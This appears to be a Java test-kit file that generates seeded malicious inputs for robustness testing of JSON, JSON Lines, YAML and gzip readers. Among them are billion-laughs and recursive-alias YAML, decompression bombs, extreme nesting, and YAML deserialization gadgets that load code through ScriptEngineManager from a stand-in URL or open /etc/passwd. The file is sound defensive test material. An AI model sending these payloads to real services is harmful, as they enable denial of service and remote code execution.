package dev.skein.testkit.bombs;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/// The documents, made from a seed. Every one is wrong for whoever reads a JSON object or a saved session.
public final class Bombs {

    private static final int DEEP = 100_000;
    private static final int LARGE = 900_000;

    private final Random random;
    private final List<Bomb> made = new ArrayList<>();

    private Bombs(long seed) {
        this.random = new Random(seed);
    }

    /// What a document is written in.
    public enum Kind {
        JSON,
        JSON_LINES,
        YAML,
        GZIP
    }

    public record Bomb(String name, Kind kind, byte[] bytes) {

        @Override
        public String toString() {
            return kind + " " + name;
        }
    }

    public static List<Bomb> all(long seed) {
        var bombs = new Bombs(seed);
        bombs.json();
        bombs.jsonLines();
        bombs.yaml();
        bombs.gzip();
        return List.copyOf(bombs.made);
    }

    private void json() {
        for (var depth : List.of(600, 5_000, DEEP)) {
            json("arrays in arrays, " + depth, "{\"prompt\":" + "[".repeat(depth) + "]".repeat(depth) + "}");
            json("objects in objects, " + depth, "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
            json("arrays that do not end, " + depth, "[".repeat(depth));
            json("both in turns, " + depth, "{\"a\":[".repeat(depth / 2));
        }
        json("a number of many digits", "{\"temperature\":" + "9".repeat(LARGE) + "}");
        json("a fraction of many digits", "{\"temperature\":0." + "3".repeat(LARGE) + "}");
        json("an exponent of many digits", "{\"temperature\":1e" + "9".repeat(50_000) + "}");
        json("a large exponent", "[1e999999999]");
        json("a small exponent", "[1e-999999999]");
        json("a long name", "{\"" + "k".repeat(200_000) + "\":1}");
        json("a name twice", "{\"prompt\":\"a\",\"prompt\":\"b\"}");
        json("the same name very often", "{" + "\"prompt\":\"a\",".repeat(50_000) + "\"prompt\":\"b\"}");
        json("something behind the end", "{\"prompt\":\"a\"} {\"prompt\":\"b\"}");
        json("many things behind the end", "{\"prompt\":\"a\"}" + " 1".repeat(100_000));
        json("a list of much nothing", "[" + "[],".repeat(50_000) + "[]]");
        json("a list of numbers", "[" + "1,".repeat(100_000) + "1]");
        json("a text that does not end", "{\"prompt\":\"" + "x".repeat(LARGE));
        json("a text of escapes", "{\"prompt\":\"" + "\\u0000".repeat(100_000));
        json("half a pair of surrogates", "{\"prompt\":\"\\ud800\",\"temperature\":\"x\"}");
        json("only white space", " \n\t".repeat(200_000) + "x");
        json("comments", "/*".repeat(100_000));
        json("words that are no values", "{\"prompt\":" + "NaN".repeat(10_000) + "}");
        json("too large by a little", "{\"prompt\":\"" + "x".repeat(1_100_000) + "\"}");
        json("too large by far", "{\"prompt\":\"" + "x".repeat(4_000_000) + "\"}");
        json("noise", noise(100_000));
        bytes("bytes that are no text", Kind.JSON, randomBytes(200_000));
        bytes("nothing but zeros", Kind.JSON, new byte[LARGE]);
        bytes("text in UTF-16", Kind.JSON, "{\"prompt\":\"a\"}".repeat(1_000).getBytes(UTF_16));
        bytes("an overlong slash", Kind.JSON, new byte[] {'{', '"', (byte) 0xc0, (byte) 0xaf, '"', ':', '1', '}'});
    }

    private void jsonLines() {
        lines("a deep line after good ones", "{\"a\":1}\n".repeat(100) + "[".repeat(DEEP));
        lines("a line without an end", "{\"a\":\"" + "y".repeat(LARGE));
        lines("many empty lines", "\n".repeat(LARGE) + "{");
        lines("a torn line in the middle", "{\"a\":1}\n{\"a\":\n{\"a\":1}\n".repeat(10_000));
        lines("zeros between lines", "{\"a\":1}\n\0\0\0\0\n".repeat(50_000));
        lines("many documents", "{\"prompt\":\"a\"}\n".repeat(60_000));
    }

    private void yaml() {
        yaml("a billion laughs", laughs(10, 10));
        yaml("a wide laugh", laughs(4, 400));
        yaml("laughs in maps", mapLaughs(12));
        yaml("itself in itself", "messages: &a [*a, *a]\n");
        yaml("a map in itself", "&a {messages: *a}\n");
        for (var depth : List.of(2_000, 20_000, DEEP)) {
            yaml("flow lists in lists, " + depth, "messages: " + "[".repeat(depth) + "]".repeat(depth));
            yaml("flow maps in maps, " + depth, "messages: " + "{a: ".repeat(depth) + "1" + "}".repeat(depth));
            yaml("lists that do not end, " + depth, "messages: " + "[".repeat(depth));
        }
        yaml("block lists in lists", "messages:\n" + "- ".repeat(20_000) + "x");
        yaml("ever deeper indents", indents(1_200));
        yaml(
                "a tag that makes things",
                "messages: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]\n");
        yaml("a tag of a file", "messages: !!java.io.File [/etc/passwd]\n");
        yaml("a name twice", "model: a\nmodel: b\nmessages: 1\n");
        yaml("many anchors", anchors(20_000));
        yaml("merges of merges", merges(2_000));
        yaml("a long key", "? " + "k".repeat(200_000) + "\n: 1\n");
        yaml("many documents", "---\nmodel: a\n".repeat(20_000));
        yaml("many directives", "%TAG ! tag:x,2000:\n".repeat(20_000) + "---\nmodel: a\n");
        yaml("a number of many digits", "model: a\ntemperature: " + "7".repeat(300_000) + "\nmessages: 1\n");
        yaml("a sexagesimal tower", "temperature: " + "59:".repeat(100_000) + "59\nmessages: 1\n");
        yaml("noise", noise(100_000));
        yaml("aliases of what is not there", "messages: [" + "*x, ".repeat(50_000) + "*x]\n");
    }

    private void gzip() {
        bytes("ten megabytes of nothing", Kind.GZIP, zipped(new byte[10_000_000], 1));
        bytes("zipped three times", Kind.GZIP, zipped(new byte[10_000_000], 3));
        bytes("a deep document", Kind.GZIP, zipped("[".repeat(DEEP).getBytes(UTF_8), 1));
        bytes("cut off", Kind.GZIP, Arrays.copyOf(zipped(randomBytes(100_000), 1), 50_000));
    }

    private static String laughs(int levels, int width) {
        var text = new StringBuilder("a0: &a0 [lol]\n");
        for (int level = 1; level <= levels; level++) {
            text.append("a%1$d: &a%1$d [".formatted(level))
                    .append(("*a" + (level - 1) + ", ").repeat(width - 1))
                    .append("*a")
                    .append(level - 1)
                    .append("]\n");
        }
        return text.append("messages: *a").append(levels).append('\n').toString();
    }

    private static String mapLaughs(int levels) {
        var text = new StringBuilder("a0: &a0 {x: lol}\n");
        for (int level = 1; level <= levels; level++) {
            text.append("a%1$d: &a%1$d {".formatted(level));
            for (int i = 0; i < 9; i++) {
                text.append("k%d: *a%d, ".formatted(i, level - 1));
            }
            text.append("}\n");
        }
        return text.append("messages: *a").append(levels).append('\n').toString();
    }

    private static String indents(int depth) {
        var text = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            text.repeat(' ', i).append("a:\n");
        }
        return text.toString();
    }

    private static String anchors(int count) {
        var text = new StringBuilder("messages:\n");
        for (int i = 0; i < count; i++) {
            text.append("- &n").append(i).append(" x\n- *n").append(i).append('\n');
        }
        return text.toString();
    }

    private static String merges(int count) {
        var text = new StringBuilder("m0: &m0 {k: 1}\n");
        for (int i = 1; i < count; i++) {
            text.append("m%1$d: &m%1$d {<<: [*m%2$d, *m%2$d], k%1$d: 1}\n".formatted(i, i - 1));
        }
        return text.append("messages: *m").append(count - 1).append('\n').toString();
    }

    private String noise(int length) {
        var signs = "[]{}:,-&*!|>'\"%@`#? \n\tab0~\\u";
        var text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append(signs.charAt(random.nextInt(signs.length())));
        }
        return text.toString();
    }

    private byte[] randomBytes(int length) {
        var bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] zipped(byte[] plain, int times) {
        try {
            var out = new ByteArrayOutputStream();
            try (var zip = new GZIPOutputStream(out)) {
                zip.write(plain);
            }
            return times == 1 ? out.toByteArray() : zipped(out.toByteArray(), times - 1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void json(String name, String text) {
        bytes(name, Kind.JSON, text.getBytes(UTF_8));
    }

    private void lines(String name, String text) {
        bytes(name, Kind.JSON_LINES, text.getBytes(UTF_8));
    }

    private void yaml(String name, String text) {
        bytes(name, Kind.YAML, text.getBytes(UTF_8));
    }

    private void bytes(String name, Kind kind, byte[] bytes) {
        made.add(new Bomb(name, kind, bytes));
    }
}
